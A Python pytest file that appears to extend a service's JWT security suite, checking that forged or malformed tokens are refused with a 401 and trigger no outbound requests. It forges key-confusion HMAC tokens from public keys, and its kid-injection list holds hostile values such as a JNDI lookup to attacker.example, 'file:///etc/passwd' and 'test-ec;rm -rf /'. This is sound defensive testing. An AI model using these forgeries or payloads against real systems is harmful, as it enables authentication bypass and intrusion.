"""JWT cases beyond tests/security/test_jwt.py: key confusion with every form of a public
key (EC and RSA), clock-skew edges on both sides of the leeway, kid injection, embedded
and remote key headers (x5c, jku, jwk) with no outbound request, malformed ``alg``
headers, signatures by an untrusted key under a trusted kid, JWE-shaped tokens.

Every refusal is a 401 problem document; the accepted twins prove each refusal is about
the one thing the case changes. Reuses test_jwt.py's module world and helpers.
"""
from __future__ import annotations

import datetime as dt
import hmac
import json
import time
from typing import Any

import jwt
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from tests.security import test_jwt as base
from tests.security.test_jwt import HS256_SECRET, assert_refused, assert_served, b64, bearer, es256, hs256, part

# The module world and fixtures of test_jwt.py, registered here under the same names.
world = base.world
fresh_request_state = base.fresh_request_state
acme = base.acme
client = base.client
hs256_enabled = base.hs256_enabled
no_network = base.no_network

LEEWAY = 30  # JWT_LEEWAY_SECONDS' default, which the test world uses
MARGIN = 10  # far enough from the edge that a slow test cannot cross it


def _public_forms(public_key: Any) -> dict[str, bytes]:
    """The ways a verifier's public key is published, each one a candidate HMAC secret."""
    pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    der = public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    ssh = public_key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    algorithm = jwt.algorithms.RSAAlgorithm if isinstance(public_key, rsa.RSAPublicKey) else jwt.algorithms.ECAlgorithm
    forms = {"pem": pem, "pem-stripped": pem.strip(), "der": der, "openssh": ssh,
             "jwk": algorithm.to_jwk(public_key).encode()}
    if isinstance(public_key, rsa.RSAPublicKey):
        forms["pkcs1"] = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    return forms


@pytest.mark.parametrize("hs256_configured", [False, True])
@pytest.mark.parametrize("key", ["ec", "rsa"])
def test_hmac_keyed_with_any_form_of_a_public_key_is_refused(client, tokens, acme, request, key, hs256_configured):
    # Given the public half of a trusted key (ES256 or RS256), in every published form
    if hs256_configured:
        request.getfixturevalue("hs256_enabled")
    private, kid = (tokens.keys.ec_key, tokens.keys.ec_kid) if key == "ec" else (tokens.keys.rsa_key,
                                                                                  tokens.keys.rsa_kid)
    for form, secret in _public_forms(private.public_key()).items():
        for alg in ("HS256", "HS384", "HS512"):
            header = {"alg": alg, "typ": "JWT", "kid": kid}
            signing_input = f"{part(header)}.{part(tokens.claims(tenant=acme))}"
            digest = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}[alg]
            signature = b64(hmac.new(secret, signing_input.encode(), digest).digest())
            # Then the key-confusion token is refused, whatever the configuration
            assert_refused(bearer(client, f"{signing_input}.{signature}")), (form, alg)


def test_hmac_with_an_empty_secret_is_refused(client, tokens, acme, hs256_enabled):
    assert_refused(bearer(client, hs256({"alg": "HS256", "typ": "JWT"}, tokens.claims(tenant=acme), b"")))
    # while the configured secret works, so the refusal is about the secret
    assert_served(bearer(client, jwt.encode(tokens.claims(tenant=acme), HS256_SECRET, algorithm="HS256")), acme)


@pytest.mark.parametrize("alg", ["ES256", "RS256"])
def test_a_signature_by_an_untrusted_key_under_a_trusted_kid_is_refused(client, tokens, acme, alg):
    attacker = ec.generate_private_key(ec.SECP256R1()) if alg == "ES256" else rsa.generate_private_key(
        public_exponent=65537, key_size=2048)
    kid = tokens.keys.ec_kid if alg == "ES256" else tokens.keys.rsa_kid
    assert_refused(bearer(client, jwt.encode(tokens.claims(tenant=acme), attacker, algorithm=alg,
                                             headers={"kid": kid})))


@pytest.mark.parametrize("alg", ["ES256 ", " ES256", "es256", "ES256\x00", ["ES256"], {"ES256": 1}, None, 256, ""],
                         ids=repr)
def test_a_malformed_alg_header_is_refused(client, tokens, acme, alg):
    assert_refused(bearer(client, es256(tokens, tokens.claims(tenant=acme), {"alg": alg})))


# ---- time: both sides of the leeway --------------------------------------------------------


def _at(offset_exp: int | None = None, offset_nbf: int | None = None, offset_iat: int = 0) -> dict[str, Any]:
    now = int(time.time())
    claims: dict[str, Any] = {"iat": now + offset_iat, "exp": now + (offset_exp if offset_exp is not None else 300)}
    if offset_nbf is not None:
        claims["nbf"] = now + offset_nbf
    return claims


# Built when the test runs, not when it is collected: a whole suite runs for many minutes.
TIMES: dict[str, tuple[Any, bool]] = {
    "expired-within-leeway": (lambda: _at(offset_exp=-(LEEWAY - MARGIN), offset_iat=-600), True),
    "expired-beyond-leeway": (lambda: _at(offset_exp=-(LEEWAY + MARGIN), offset_iat=-600), False),
    "nbf-ahead-within-leeway": (lambda: _at(offset_nbf=LEEWAY - MARGIN), True),
    "nbf-ahead-beyond-leeway": (lambda: _at(offset_nbf=LEEWAY + MARGIN), False),
    "iat-ahead-within-leeway": (lambda: _at(offset_iat=LEEWAY - MARGIN), True),
    "iat-ahead-beyond-leeway": (lambda: _at(offset_iat=LEEWAY + MARGIN), False),
    "exp-epoch-zero": (lambda: _at(offset_iat=-600) | {"exp": 0}, False),
    "exp-far-future-beyond-the-lifetime-cap": (lambda: {"iat": int(time.time()), "exp": 2**63}, False),
    "exp-negative": (lambda: _at() | {"exp": -1}, False),
    "exp-boolean": (lambda: _at() | {"exp": True}, False),
    "nbf-null": (lambda: _at() | {"nbf": None}, False),
    "iat-overflowing-float": (lambda: _at() | {"iat": 1e400}, False),
}


@pytest.mark.parametrize("case", list(TIMES))
def test_time_claims_around_the_leeway(client, tokens, acme, case):
    make, accepted = TIMES[case]
    response = bearer(client, es256(tokens, tokens.claims(tenant=acme) | make()))
    if accepted:
        assert_served(response, acme)
    else:
        assert_refused(response)


# ---- kid injection -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "kid",
    [
        "' OR '1'='1", "test-ec' --", "test-ec\" OR \"\"=\"", "*", "%", "test-%", "test-ec\x00", "test-ec ", " test-ec",
        "TEST-EC", "test\u2010ec", "../../../../dev/null", "/dev/null", "file:///etc/passwd", "https://attacker.example/k",
        "${jndi:ldap://attacker.example/a}", "{{7*7}}", "test-ec;rm -rf /", "k" * 65536, {"$ne": None}, True,
    ],
    ids=lambda v: repr(v)[:40],
)
def test_kid_injection_names_no_key_and_reaches_nothing(client, tokens, acme, no_network, kid):
    # Signed with the trusted EC key, so only the kid is hostile
    response = bearer(client, es256(tokens, tokens.claims(tenant=acme), {"kid": kid}))
    assert_refused(response)
    assert no_network == []


# ---- keys the token brings with it -----------------------------------------------------------


def _self_signed(key: Any) -> str:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = time.time()
    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                   .serial_number(1).not_valid_before(dt.datetime.fromtimestamp(now - 60, dt.UTC))
                   .not_valid_after(dt.datetime.fromtimestamp(now + 3600, dt.UTC)).sign(key, hashes.SHA256()))
    return b64(certificate.public_bytes(serialization.Encoding.DER)).replace("-", "+").replace("_", "/")


@pytest.mark.parametrize("headers", ["x5c", "jku+jwk+x5u", "x5t"])
def test_keys_and_certificates_in_the_header_are_never_used_or_fetched(client, tokens, acme, no_network, headers):
    attacker = ec.generate_private_key(ec.SECP256R1())
    extra: dict[str, Any] = {
        "x5c": {"x5c": [_self_signed(attacker)]},
        "jku+jwk+x5u": {"jku": "https://127.0.0.1/jwks.json", "x5u": "https://169.254.169.254/cert",
                        "jwk": json.loads(jwt.algorithms.ECAlgorithm.to_jwk(attacker.public_key()))},
        "x5t": {"x5t": b64(b"\x00" * 20), "x5t#S256": b64(b"\x00" * 32)},
    }[headers]
    for kid in (tokens.keys.ec_kid, "attacker"):
        token = jwt.encode(tokens.claims(tenant=acme), attacker, algorithm="ES256", headers={"kid": kid, **extra})
        assert_refused(bearer(client, token))
    assert no_network == []


# ---- shapes ----------------------------------------------------------------------------------


def test_a_jwe_shaped_token_is_refused(client, tokens, acme):
    header, payload, signature = tokens.token(tenant=acme).split(".")
    assert_refused(bearer(client, f"{part({'alg': 'RSA-OAEP', 'enc': 'A256GCM'})}.{payload}.x.{signature}.y"))
    assert_refused(bearer(client, f"{header}.{payload}.{signature}.{signature}"))


@pytest.mark.parametrize("claims", [[], "a string", 42, None], ids=repr)
def test_a_payload_that_is_not_an_object_is_refused(client, tokens, claims):
    assert_refused(bearer(client, es256(tokens, claims)))


def test_a_header_with_a_huge_number_of_fields_is_refused_without_a_500(client, tokens, acme):
    token = es256(tokens, tokens.claims(tenant=acme), {f"x{i}": i for i in range(20000)})
    assert_refused(bearer(client, token))
